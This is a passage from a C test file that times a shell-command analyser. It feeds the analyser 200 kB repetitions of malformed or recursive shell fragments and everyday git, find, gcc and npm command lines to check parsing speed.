		"alias a='a a';a;",
		"trap 'a' 0;",
		"set -- $@ a;",
		"`echo `",
		"\\`",
		"${!x",
		"${a:-${b:-",
		"x=${x/a/bb}a;",
		"cd a;",
		"echo a|",
	};
	double worst = 0;

	for (size_t i = 0; i < ARRAY_SIZE(units); i++) {
		autobuf b = {0};
		double start, took;

		repeat(&b, units[i], 200000);
		start = now_s();
		shell_analyse(b.data, b.len, &env, &a);
		took = now_s() - start;
		worst = took > worst ? took : worst;
		ok(took < 10, "200 kB of '%s': %.0f ms%s%s",
		   units[i][0] == '\n' ? "newline" : units[i], took * 1e3, a.unparsable ? ", " : "",
		   a.unparsable ? a.why : "");
	}
	note("the worst: %.0f ms", worst * 1e3);
	shell_done(&a);
}

static void test_speed(void)
{
	static const char *const texts[] = {
		"cd /home/u/src/demo && git add -A && git commit -m \"Fix the parser for nested "
		"quotes\" && git push origin main",
		"find . -name '*.py' -not -path './.venv/*' -print0 | xargs -0 grep -n \"TODO\" | "
		"head -50 2>/dev/null",
		"for f in src/a.c src/b.c; do gcc -Wall -O2 -c \"$f\" -o \"build/$(basename \"$f\" "
		".c).o\" || exit 1; done",
		"if [ -f package.json ]; then npm install --no-audit && npm test -- --watch=false "
		"2>&1 | tail -40; fi",
	};
	double best = 1e9;

	for (unsigned run = 0; run < 5; run++) {
		double start = now_s();

		for (unsigned i = 0; i < 4000; i++)
			shell_analyse(texts[i % 4], strlen(texts[i % 4]), &bare_env, &a);
		best = MIN(best, (now_s() - start) / 4000 * 1e6);
	}
	note("%.2f microseconds a command of 100 bytes", best);
	ok(best < 500, "a command takes microseconds");
}

int main(void)
{
	test_tables();
	test_fields();
	test_argv();
	test_speed();
	test_sizes();
	return tap_done();
}
